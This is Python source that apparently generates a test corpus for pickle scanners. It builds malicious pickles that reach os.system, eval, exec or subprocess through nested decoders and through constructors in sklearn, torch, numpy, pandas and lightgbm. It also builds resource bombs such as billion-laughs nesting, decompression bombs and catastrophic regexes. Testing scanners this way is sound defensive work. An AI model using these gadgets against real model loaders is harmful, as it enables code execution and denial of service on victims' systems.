        ("base64-text", lambda data: red("pickle.loads", red("base64.b64decode", base64.b64encode(data).decode()))),
        ("zlib", lambda data: red("pickle.loads", red("zlib.decompress", zlib.compress(data)))),
        ("hex", lambda data: red("pickle.loads", red("binascii.unhexlify", data.hex()))),
        ("codecs-base64", lambda data: red("pickle.loads", red("codecs.decode", base64.encodebytes(data), "base64"))),
        ("twice", lambda data: red("pickle.loads", stream("bin3", red("pickle.loads", data)))),
        ("bytearray", lambda data: red("pickle.loads", Raw(bytearray8(data)))),
        ("binbytes8", lambda data: red("pickle.loads", Raw(binbytes8(data)))),
        (
            "torch-rpc",
            lambda data: red(
                "torch.distributed.rpc.internal._InternalRPCPickler.deserialize",
                newobj("torch.distributed.rpc.internal._InternalRPCPickler"),
                data,
                [],
            ),
        ),
        ("sklearn-bytes-io-joblib", lambda data: red("joblib.numpy_pickle._unpickle", red("io.BytesIO", data))),
        ("shelve-like", lambda data: red(sg("pickle", "loads.__call__"), data)),
        ("marshal-exec", lambda data: red("builtins.exec", red("marshal.loads", b"c" + b"\0" * 8))),
        ("deep-8", None),
    ]
    for index, (name, make) in enumerate(rows):
        data = inner[index % len(inner)]
        if make is None:
            for _ in range(8):
                data = stream("bin3", red("pickle.loads", data))
            content = data
        else:
            if name == "torch-rpc":
                make = lambda data: red(
                    sg("torch.distributed.rpc.internal", "_InternalRPCPickler.deserialize"),
                    newobj("torch.distributed.rpc.internal._InternalRPCPickler"),
                    data,
                    [],
                )
            content = stream(("bin3", "plain4", "bin5")[index % 3], make(data))
        cases.add(name, content, reach=None)


def gadget_arguments(corpus, target=TARGET, suffix=""):
    """Class 17: constructors and rebuilders of ordinary libraries, given a dangerous callable."""
    SYSTEM, MODERN, RUN = g(*target), sg(*target), red(g(*target), "true")
    cases = _Cases(
        corpus,
        "17-allowed-constructor-bad-argument" + suffix,
        "an ordinary constructor is handed the dangerous callable",
        file="estimator.pkl",
        reach=".".join(target),
    )
    estimator = lambda name, state: build(newobj(g(*name.rsplit(".", 1))), {**state, "_sklearn_version": "1.9.1"})
    function = lambda func: estimator(
        "sklearn.preprocessing._function_transformer.FunctionTransformer",
        {"func": func, "inverse_func": None, "validate": False, "kw_args": None},
    )
    cases.add("function-transformer-system", stream("bin2", function(SYSTEM)))
    cases.add("function-transformer-eval", stream("plain4", function(sg("builtins", "eval"))), reach="builtins.eval")
    cases.add(
        "function-transformer-partial",
        stream("bin3", function(red("functools.partial", g("subprocess", "run"), ["true"]))),
        reach="subprocess.run",
    )
    pipeline = estimator(
        "sklearn.pipeline.Pipeline",
        {
            "steps": [("scale", estimator("sklearn.preprocessing._data.StandardScaler", {"with_mean": True})), ("f", function(SYSTEM))],
            "memory": None,
        },
    )
    cases.add("pipeline", stream("bin2", pipeline))
    run = "cProfile.run"
    cases.add(
        "scorer", stream("bin2", estimator("sklearn.metrics._scorer._Scorer", {"_score_func": HOOK, "_sign": 1, "_kwargs": {}})), reach=run
    )
    cases.add(
        "knn-metric",
        stream("bin3", estimator("sklearn.neighbors._classification.KNeighborsClassifier", {"n_neighbors": 5, "metric": HOOK})),
        reach=run,
    )
    cases.add(
        "count-vectorizer-tokenizer",
        stream(
            "plain4",
            estimator("sklearn.feature_extraction.text.CountVectorizer", {"tokenizer": sg("builtins", "exec"), "analyzer": "word"}),
        ),
        reach="builtins.exec",
    )
    cases.add(
        "column-transformer",
        stream("bin2", estimator("sklearn.compose._column_transformer.ColumnTransformer", {"transformers": [("a", function(HOOK), [0])]})),
        reach=run,
    )
    cases.add(
        "grid-search-refit",
        stream("bin2", estimator("sklearn.model_selection._search.GridSearchCV", {"refit": HOOK, "scoring": HOOK})),
        reach=run,
    )
    cases.add(
        "target-regressor",
        stream("bin2", estimator("sklearn.compose._target.TransformedTargetRegressor", {"func": HOOK, "inverse_func": HOOK})),
        reach=run,
    )
    cases.add(
        "rebuild-from-type",
        stream("bin2", red("torch._tensor._rebuild_from_type_v2", SYSTEM, g("torch", "Tensor"), ("true",), {})),
        file="weights.bin",
    )
    cases.add(
        "rebuild-from-type-v1",
        stream("bin2", red("torch._tensor._rebuild_from_type", SYSTEM, g("torch", "Tensor"), ("true",), {})),
        file="weights.bin",
    )
    cases.add(
        "rebuild-parameter-with-state",
        stream("bin2", red("torch._utils._rebuild_parameter_with_state", RUN, True, red("collections.OrderedDict"), {})),
        file="weights.bin",
    )
    module = lambda name, state: build(
        newobj(g(*name.rsplit(".", 1))), {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {}, **state}
    )
    hooks = lambda callee: red("collections.OrderedDict", [[0, callee]])
    cases.add(
        "module-forward-hook",
        stream("bin2", module("torch.nn.modules.linear.Identity", {"_forward_pre_hooks": hooks(HOOK)})),
        reach=run,
        file="module.pt",
    )
    cases.add(
        "module-forward-attribute",
        stream("bin2", module("torch.nn.modules.linear.Linear", {"forward": HOOK, "in_features": 2})),
        reach=run,
        file="module.pt",
        note="forward in the instance is what __call__ takes",
    )
    cases.add(
        "module-activation",
        stream("bin3", module("torch.nn.modules.transformer.TransformerEncoderLayer", {"activation": HOOK})),
        reach=run,
        file="module.pt",
    )
    cases.add(
        "lambda-lr",
        stream("bin2", build(newobj("torch.optim.lr_scheduler.LambdaLR"), {"lr_lambdas": [HOOK], "base_lrs": [0.1]})),
        reach=run,
        file="checkpoint.pt",
    )
    cases.add(
        "worker-init",
        stream("bin2", build(newobj("torch.utils.data.dataloader.DataLoader"), {"worker_init_fn": HOOK, "collate_fn": HOOK})),
        reach=run,
        file="loader.pt",
    )
    cases.add("numpy-vectorize", stream("bin2", build(newobj("numpy.vectorize"), {"pyfunc": HOOK, "otypes": None})), reach=run)
    cases.add("numpy-frompyfunc", stream("bin2", red(red("numpy.frompyfunc", SYSTEM, 1, 1), "true")))
    cases.add("numpy-fromfunction", stream("bin3", red("numpy.fromfunction", HOOK, (1,))), reach=run)
    cases.add(
        "numpy-dtype-metadata",
        stream("bin2", Raw(red("numpy.dtype", "O8", False, True).ops + lit((3, "|", None, None, None, -1, -1, 63, {"run": RUN})) + BUILD)),
        whole=False,
    )
    cases.add("pandas-apply", stream("plain4", red(sg("pandas", "Series.apply"), red("pandas.Series", ["true"]), MODERN)))
    cases.add("pandas-pipe", stream("plain4", red(sg("pandas.core.common", "pipe"), "true", MODERN)))
    cases.add("pandas-map", stream("plain4", red(sg("pandas", "Index.map"), red("pandas.Index", ["true"]), MODERN)))
    cases.add("partial-of-partial", stream("bin2", red(red("functools.partial", red("functools.partial", SYSTEM), "true"))))
    cases.add("partial-kept", stream("bin2", {"preprocess": red("functools.partial", SYSTEM)}))
    cases.add("defaultdict-abort", stream("bin2", red("collections.defaultdict", g("os", "abort"))), reach="os.abort")
    cases.add("scipy-optimize", stream("bin3", red("scipy.optimize.fsolve", HOOK, 0.5)), reach=run, note="a solver calls its function")
    cases.add("joblib-batched-calls", stream("bin3", red(red("joblib.parallel.BatchedCalls", [(SYSTEM, ("true",), {})], (None, 1)))))
    cases.add(
        "lightgbm-objective",
        stream("bin2", estimator("lightgbm.sklearn.LGBMClassifier", {"objective": HOOK, "n_estimators": 5})),
        reach=run,
        file="lgb.pkl",
    )
    field = red(newobj_ex("functools.partial", (g("dataclasses", "field"),), {"default_factory": red("functools.partial", SYSTEM, "true")}))
    cases.add("dataclass-field-factory", stream("bin3", red(red("dataclasses.make_dataclass", "C", [("a", g("builtins", "int"), field)]))))


def resources(corpus):
    """Class 20: bombs; all but the last group have a payload behind them that a real loader reaches cheaply."""
    cases = _Cases(
        corpus,
        "20-resource-attack-then-payload",
        "a bomb for scanners that copy or expand values; loaders share them and reach the payload",
    )
    doubled = Raw(lit("lol") + b"".join(DUP + TUPLE2 for _ in range(60)))
    cases.add("laughs-tuples", stream("bin2", doubled, RUN))
    doubled_lists = Raw(
        b"".join(
            [lit(["lol"] * 10), put(0)] + [POP + EMPTY_LIST + put(level + 1) + MARK + get(level) * 10 + APPENDS for level in range(25)]
        )
    )
    cases.add("laughs-lists", stream("bin2", doubled_lists, RUN))
    cases.add(
        "laughs-dict-values",
        stream(
            "bin2",
            Raw(
                b"".join(
                    [lit({"a": 1}), put(0)]
                    + [
                        POP + EMPTY_DICT + put(level + 1) + MARK + lit("a") + get(level) + lit("b") + get(level) + SETITEMS
                        for level in range(50)
                    ]
                )
            ),
            RUN,
        ),
    )
    cases.add("laughs-arguments", stream("bin2", red("builtins.list", doubled), RUN))
    cases.add("million-marks", proto(2) + MARK * 1_000_000 + POP * 1_000_000 + RUN.ops + STOP)
    cases.add("deep-tuples", proto(2) + EMPTY_TUPLE + TUPLE1 * 300_000 + RUN.ops + STOP)
    cases.add("deep-lists", proto(2) + EMPTY_LIST * 100_000 + APPEND * 99_999 + RUN.ops + STOP)
    cases.add(
        "self-containing",
        stream("bin2", Raw(EMPTY_LIST + put(0) + get(0) + APPEND), Raw(EMPTY_DICT + put(1) + lit("me") + get(1) + SETITEM), RUN),
    )
    cases.add("big-integer", proto(2) + b"\x8b" + struct.pack("<i", 4_000_000) + b"\x7f" * 4_000_000 + POP + RUN.ops + STOP)
    cases.add("text-integer", b"L" + b"9" * 4000 + b"L\n0cos\nsystem\n(S'true'\ntR.")
    cases.add("many-puts", proto(2) + b"".join(integer(index % 250) + put(index) + POP for index in range(60_000)) + RUN.ops + STOP)
    cases.add("long-string-of-stops", stream("bin2", "." * 2_000_000, RUN))
    cases.add("many-globals", proto(2) + b"".join(g("collections", "OrderedDict").ops + POP for _ in range(50_000)) + RUN.ops + STOP)
    pure = _Cases(corpus, "20-resource-calls", "calls that eat memory or time")
    pure.add("pow", stream("bin2", red("builtins.pow", 9, red("builtins.pow", 10, 10))), reach="builtins.pow")
    pure.add("mul", stream("bin3", red("operator.mul", "A" * 64, 2**40)), reach="operator.mul")
    pure.add("lshift", stream("bin3", red("operator.lshift", 1, 2**45)), reach="operator.lshift")
    pure.add("sleep", stream("bin2", red("time.sleep", 10**8)), reach="time.sleep")
    pure.add("exhaust-count", stream("bin2", red("builtins.list", red("itertools.count", 0))), reach="itertools.count")
    pure.add(
        "decompress-bomb",
        stream("bin3", red("zlib.decompress", zlib.compress(zlib.compress(b"\0" * 50_000_000, 9), 9))),
        reach="zlib.decompress",
    )
    pure.add("regex", stream("bin2", red("re.match", "(a+)+$", "a" * 64 + "!")), reach="re.match")
